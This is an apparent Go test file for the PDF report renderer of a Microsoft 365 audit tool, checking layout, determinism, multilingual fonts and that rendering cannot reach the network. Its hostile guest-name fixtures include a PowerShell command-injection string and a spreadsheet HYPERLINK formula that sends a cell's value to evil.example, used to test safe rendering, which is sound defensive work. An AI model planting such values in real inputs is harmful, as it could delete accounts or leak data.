package pdf

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"go/parser"
	gotoken "go/token"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/m365audit/m365audit/checks"
	"github.com/m365audit/m365audit/collectors/snapshot"
)

var update = flag.Bool("update", false, "rewrite golden files")

func assertGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read %s: %v (run: go test ./report/pdf -update)", path, err)
	}
	want = bytes.ReplaceAll(want, []byte("\r\n"), []byte("\n"))
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", path, diff)
	}
}

func render(t testing.TB, doc *checks.Document, snap *snapshot.Snapshot) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(context.Background(), &buf, buildModel(t, doc, snap), Options{}); err != nil {
		t.Fatalf("Write: %v", err)
	}
	return buf.Bytes()
}

// TestGoldenText compares the text drawn on every page, with positions, so
// a layout change shows up as a readable diff.
func TestGoldenText(t *testing.T) {
	t.Parallel()
	out := render(t, phishedDoc(), nil)
	assertGolden(t, "phished.text", []byte(dump(extractText(t, out))))
}

// TestDeterministic renders twice and expects the same bytes: dates come
// from the document, catalogue entries are sorted.
func TestDeterministic(t *testing.T) {
	t.Parallel()
	a := render(t, phishedDoc(), nil)
	b := render(t, phishedDoc(), nil)
	if !bytes.Equal(a, b) {
		t.Fatal("two renderings of the same document differ")
	}
	if !bytes.Contains(a, []byte("/CreationDate (D:20261114100200")) {
		t.Error("creation date is not the document's generatedAt")
	}
}

func TestContent(t *testing.T) {
	t.Parallel()
	items := extractText(t, render(t, phishedDoc(), nil))
	text := joined(items)
	pages := items[len(items)-1].page
	for _, want := range []string{
		"Microsoft 365 security audit", "Contoso Ltd", "Tenant ID: 0d9f3c1a-5e2b-4c7d-8f10-3a6b9c2e7d41",
		"Incident response: compromised account", "adele.vance@contoso.com",
		"Top risks", "Coverage", "Findings", "Passed checks", "Checks that could not be evaluated",
		"and 22 more — full list in the workbook (report.xlsx, sheet Affected objects).",
		"ACCEPTED RISK", "IT operations (J. Smith)", "2027-01-31",
		"Policy.Read.All", "licence: Entra ID P2", // coverage says what would allow the dataset
		"Why it matters", "How to fix",
		fmt.Sprintf("Page 1 of %d", pages),
	} {
		if !strings.Contains(text, want) && !strings.Contains(strings.ReplaceAll(text, " ", ""), strings.ReplaceAll(want, " ", "")) {
			t.Errorf("report text lacks %q", want)
		}
	}
	// Each page has a header and a footer.
	perPage := map[int]int{}
	for _, it := range items {
		if it.s == "m365audit report" {
			perPage[it.page]++
		}
	}
	for p := 1; p <= pages; p++ {
		if perPage[p] != 1 {
			t.Errorf("page %d has %d headers", p, perPage[p])
		}
	}
}

// TestOutline reads the bookmarks: sections, categories, then findings
// nested under their category; passes are not findings.
func TestOutline(t *testing.T) {
	t.Parallel()
	out := render(t, phishedDoc(), nil)
	var titles []string
	for _, m := range outlineRe.FindAllSubmatchIndex(out, -1) {
		raw, ok := unescapePDFString(out[m[1]:])
		if !ok {
			t.Fatal("unterminated outline title")
		}
		raw = bytes.TrimPrefix(raw, []byte{0xFE, 0xFF})
		if title := decodeUTF16(raw); title != "Microsoft 365 security audit: Contoso Ltd" { // the document info
			titles = append(titles, title)
		}
	}
	want := []string{
		"Incident response: compromised account", "What happened", "What the attacker changed", "What is still open",
		"What the containment script will do", "adele.vance@contoso.com", "Timeline",
		"Executive summary", "Top risks", "Coverage",
		"Findings",
		"Incident (2)", "IR-FWD-001 Mail forwarding set during the incident", "IR-GUEST-001 Guests invited by the compromised user during the incident",
		"Conditional Access (1)", "CA-MFA-001 MFA is required for all users by Conditional Access",
		"Entra ID (3)", "ENTRA-GUEST-002 Only administrators can invite guests", "ENTRA-ADMIN-003 Two to four Global Administrators", "ENTRA-PIM-001 Privileged roles are assigned through PIM",
		"Exchange Online (2)", "EXO-PROTO-001 Legacy authentication protocols are blocked", "EXO-AUDIT-002 Mailbox auditing bypass is not used",
		"Checks that could not be evaluated", "Passed checks",
	}
	if diff := cmp.Diff(want, titles); diff != "" {
		t.Errorf("outline (-want +got):\n%s", diff)
	}
}

var outlineRe = regexp.MustCompile(`/Title \(`)

func TestIntegrityWarning(t *testing.T) {
	t.Parallel()
	doc := phishedDoc()
	doc.Integrity = []snapshot.IntegrityProblem{{File: "users.json", Dataset: "users", Problem: "sha256 mismatch"}}
	text := joined(extractText(t, render(t, doc, nil)))
	if !strings.Contains(text, "INTEGRITY WARNING") || !strings.Contains(text, "sha256 mismatch") {
		t.Errorf("integrity problems are not shown loudly")
	}
	plainDoc := phishedDoc()
	if strings.Contains(joined(extractText(t, render(t, plainDoc, nil))), "INTEGRITY") {
		t.Error("a verified snapshot shows an integrity warning")
	}
}

// TestCoverageFromManifest takes the permission from the snapshot's
// manifest when it has one.
func TestCoverageFromManifest(t *testing.T) {
	t.Parallel()
	doc := phishedDoc()
	snap := snapshot.FromFiles(snapshot.Manifest{Datasets: map[string]snapshot.DatasetInfo{
		snapshot.DSNamedLocations: {Status: snapshot.StatusForbidden, Permission: "Policy.Read.ConditionalAccess"},
	}}, nil)
	text := strings.ReplaceAll(joined(extractText(t, render(t, doc, snap))), " ", "")
	if !strings.Contains(text, "Policy.Read.ConditionalAccess") {
		t.Error("coverage does not use the manifest's permission")
	}
}

func TestNoFindings(t *testing.T) {
	t.Parallel()
	doc := &checks.Document{GeneratedAt: generated, Tenant: snapshot.Tenant{DisplayName: "Empty"}}
	text := joined(extractText(t, render(t, doc, nil)))
	for _, want := range []string{"n/a", "No failing checks", "No findings: the results contain no checks.", "no dataset coverage"} {
		if !strings.Contains(text, want) {
			t.Errorf("empty document lacks %q", want)
		}
	}
	if err := Write(context.Background(), &bytes.Buffer{}, nil, Options{}); !errors.Is(err, ErrNilDocument) {
		t.Errorf("nil document: err = %v", err)
	}
}

func TestCancelled(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var buf bytes.Buffer
	err := Write(ctx, &buf, buildModel(t, phishedDoc(), nil), Options{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if buf.Len() != 0 {
		t.Error("a cancelled render wrote output")
	}
}

var hostileNames = []string{
	"'; Remove-MgUser -UserId 'x'; '",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"陳大文",
	"山田太郎",
	"\u200fمحمد علي",
	"O’Neil",
	strings.Repeat("x", 256),
	"bell\x07esc\x1b[31mred\x00nul\r\nnewline",
	"emoji 😀 outside the BMP",
	"Ελένη Παπαδοπούλου",
	"Дмитрий Иванов",
	"לאה כהן",
	"김민준",
	"이서연 (Seo-yeon Lee) 陳大文 ‏محمد",
}

func hostileDoc() *checks.Document {
	doc := phishedDoc()
	var aff []checks.Affected
	for i, n := range hostileNames {
		aff = append(aff, checks.Affected{Kind: "guest", ID: fmt.Sprintf("g-%02d", i), Name: n, Detail: n})
	}
	doc.Tenant.DisplayName = "大文 Holdings 株式会社"
	doc.Results = append(doc.Results, checks.Result{
		ID: "IR-GUEST-002", Title: "Hostile guest names", Category: "Incident", Incident: true,
		Severity: checks.SeverityHigh, Status: checks.StatusFail, Summary: "Names: " + strings.Join(hostileNames, " | "),
		Affected: aff,
	})
	return doc
}

func TestHostileNames(t *testing.T) {
	t.Parallel()
	out := render(t, hostileDoc(), nil)
	text := joined(extractText(t, out))
	for _, want := range []string{
		"陳大文", "山田太郎", "김민준", "이서연", "O’Neil", "Remove-MgUser", "=HYPERLINK", "Ελένη", "Дмитрий",
		"bell‹U+0007›esc‹U+001B›[31mred‹U+0000›nul", "‹U+000D›‹U+000A›newline", // control characters spelled out, not dropped
		"emoji \uFFFD outside", // the emoji no font has is a visible placeholder
		"\uFEF2\uFEE0\uFECB",   // Arabic in presentation forms, right to left…
		"ן\u05d4\u05db",        // Hebrew reversed too
	} {
		if !strings.Contains(text, want) {
			t.Errorf("rendered text lacks %q", want)
		}
	}
	// … and the first word of the name is drawn rightmost.
	if !strings.Contains(text, "\uFEF2\uFEE0\uFECB \uFEAA\uFEE4\uFEA4\uFEE3") {
		t.Error("Arabic run is not in right-to-left visual order")
	}
	for _, bad := range []string{"\u200f", "\x07", "\x1b", "😀"} {
		if strings.Contains(text, bad) {
			t.Errorf("rendered text contains raw %q", bad)
		}
	}
	// The 256-character name is broken, never drawn as one overflowing line.
	if strings.Contains(text, strings.Repeat("x", 100)) {
		t.Error("256-character name drawn in one piece")
	}
	// The CJK font is embedded, with a ToUnicode map so text can be copied.
	if !bytes.Contains(out, []byte("/BaseFont /utf8droidfallback")) {
		t.Error("CJK font not embedded")
	}
	if !bytes.Contains(out, []byte("/ToUnicode")) {
		t.Error("no ToUnicode map")
	}
	// Nothing is drawn outside the page margins.
	for _, it := range extractText(t, out) {
		if it.x < marginX*72/25.4-0.5 {
			t.Errorf("text %q starts left of the margin (x=%.1fpt)", it.s, it.x)
		}
	}
}

// TestHostileNamesPoppler reads the PDF back with pdftotext, an
// independent reader: the CJK names must come back, and no word may end
// beyond the right margin.
func TestHostileNamesPoppler(t *testing.T) {
	t.Parallel()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Skip("pdftotext not installed (apt-get install poppler-utils)")
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "hostile.pdf")
	var buf bytes.Buffer
	if err := Write(t.Context(), &buf, buildModel(t, hostileDoc(), nil), Options{Compress: true}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(in, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	txt, err := exec.Command(bin, "-enc", "UTF-8", in, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	for _, want := range []string{"陳大文", "山田太郎", "大文 Holdings 株式会社", "O’Neil", "Дмитрий", "김민준", "이서연 (Seo-yeon Lee) 陳大文"} {
		if !strings.Contains(string(txt), want) {
			t.Errorf("pdftotext output lacks %q", want)
		}
	}
	bbox, err := exec.Command(bin, "-bbox", in, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext -bbox: %v", err)
	}
	limit := (pageW - marginX) * 72 / 25.4
	for _, line := range strings.Split(string(bbox), "\n") {
		if !strings.Contains(line, "<word ") {
			continue
		}
		var xMin, yMin, xMax, yMax float64
		i := strings.Index(line, "xMin=")
		if _, err := fmt.Sscanf(line[i:], `xMin="%f" yMin="%f" xMax="%f" yMax="%f"`, &xMin, &yMin, &xMax, &yMax); err != nil {
			t.Fatalf("parse %q: %v", line, err)
		}
		if xMax > limit+1 {
			t.Errorf("word ends beyond the right margin (%.1f > %.1f): %s", xMax, limit, line)
		}
	}
}

// TestNoNetwork scans the package's imports: rendering must not be able to
// reach the network.
func TestNoNetwork(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := gotoken.NewFileSet()
	seen := 0
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, parser.ImportsOnly)
		if err != nil {
			t.Fatal(err)
		}
		for _, imp := range f.Imports {
			seen++
			p := strings.Trim(imp.Path.Value, `"`)
			if p == "net" || strings.HasPrefix(p, "net/") || p == "os/exec" || p == "crypto/tls" {
				t.Errorf("%s imports %s", name, p)
			}
		}
	}
	if seen == 0 {
		t.Fatal("no imports found: the scan looked at the wrong files")
	}
	// go test puts the toolchain's go first on PATH.
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Fatalf("the go command is needed for the transitive check: %v", err)
	}
	out, err := exec.Command(goBin, "list", "-deps", ".").Output()
	if err != nil {
		t.Fatalf("go list -deps: %v", err)
	}
	for _, dep := range strings.Fields(string(out)) {
		if dep == "net" || strings.HasPrefix(dep, "net/") || dep == "crypto/tls" {
			t.Errorf("package depends on %s transitively", dep)
		}
	}
}

// BenchmarkWrite100kUsers renders a document whose failing checks list
// 100 000 affected objects in total; the per-finding cap keeps the PDF small.
func BenchmarkWrite100kUsers(b *testing.B) {
	doc := phishedDoc()
	const perCheck = 10_000
	for i := range 10 {
		aff := make([]checks.Affected, perCheck)
		for j := range aff {
			aff[j] = checks.Affected{Kind: "user", ID: fmt.Sprintf("00000000-0000-0000-%04d-%012d", i, j),
				Name: fmt.Sprintf("User %d-%d", i, j), Detail: "no MFA method registered"}
		}
		doc.Results = append(doc.Results, checks.Result{
			ID: fmt.Sprintf("BENCH-%03d", i), Title: "Users without MFA", Category: "Entra ID",
			Severity: checks.SeverityHigh, Status: checks.StatusFail, Summary: "Many users.", Affected: aff,
		})
	}
	var size int
	b.ReportAllocs()
	for b.Loop() {
		var buf bytes.Buffer
		if err := Write(context.Background(), &buf, buildModel(b, doc, nil), Options{Compress: true}); err != nil {
			b.Fatal(err)
		}
		size = buf.Len()
	}
	b.ReportMetric(float64(size), "pdf-bytes")
}

// TestScoreEdges renders scores at the ends of the gauge and a broken
// (NaN) score, which must read as n/a rather than "NaN%"; the gauge shows
// the score with one decimal, as the console and the workbook do.
func TestScoreEdges(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		p    float64
		want string
	}{
		{0, "0.0%"}, {100, "100.0%"}, {25.5, "25.5%"}, {31.07, "31.1%"}, {math.NaN(), "n/a"},
	} {
		doc := phishedDoc()
		doc.Score.Percent = tc.p
		items := extractText(t, render(t, doc, nil))
		text := joined(items)
		if strings.Contains(text, "NaN") {
			t.Errorf("score %v: NaN printed", tc.p)
		}
		found := false
		for _, it := range items {
			if it.s == tc.want {
				found = true
			}
		}
		if !found {
			t.Errorf("score %v: the gauge does not read %q", tc.p, tc.want)
		}
	}
}

// TestHangul reads Korean names back with poppler: alone and next to
// Latin, CJK and right-to-left text, the Hangul comes back as drawn (no
// placeholder), and the Hangul font is embedded with a Unicode map.
func TestHangul(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		want []string // what pdftotext reads back
	}{
		{"김민준", []string{"김민준"}},
		{"김민준 (Minjun Kim) <script>", []string{"김민준 (Minjun Kim) <script>"}},
		{"박지우 陳大文 山田太郎", []string{"박지우 陳大文 山田太郎"}},
		{"\u200f최예은 محمد علي", []string{"최예은"}},
		{"ㄱㄴㄷ 한글", []string{"ㄱㄴㄷ 한글"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			doc := phishedDoc()
			doc.Tenant.DisplayName = "주식회사 " + tc.name
			doc.Results = append(doc.Results, checks.Result{ID: "ENTRA-EXT-009", Title: "Guests", Category: "Entra ID",
				Severity: checks.SeverityHigh, Status: checks.StatusFail, Summary: "Guest " + tc.name + " was invited.",
				Affected: []checks.Affected{{Kind: "guest", ID: "g-1", Name: tc.name, Detail: tc.name}}})
			var buf bytes.Buffer
			if err := Write(t.Context(), &buf, buildModel(t, doc, nil), Options{Compress: true}); err != nil {
				t.Fatal(err)
			}
			text := poppler(t, "pdftotext", buf.Bytes(), "-enc", "UTF-8")
			for _, want := range append(tc.want, "주식회사") {
				if !strings.Contains(text, want) {
					t.Errorf("pdftotext lacks %q", want)
				}
			}
			if strings.ContainsRune(text, placeholder) {
				t.Error("a character was drawn as the placeholder")
			}
			fonts := poppler(t, "pdffonts", buf.Bytes())
			found := false
			for _, line := range strings.Split(fonts, "\n") {
				f := strings.Fields(line)
				// name type encoding emb sub uni object ID
				if len(f) >= 8 && strings.Contains(f[0], "hangulgothic") {
					found = true
					if emb, uni := f[len(f)-5], f[len(f)-3]; emb != "yes" || uni != "yes" {
						t.Errorf("Hangul font not embedded with a Unicode map: %s", line)
					}
				}
			}
			if !found {
				t.Errorf("Hangul font not in the PDF:\n%s", fonts)
			}
		})
	}
}
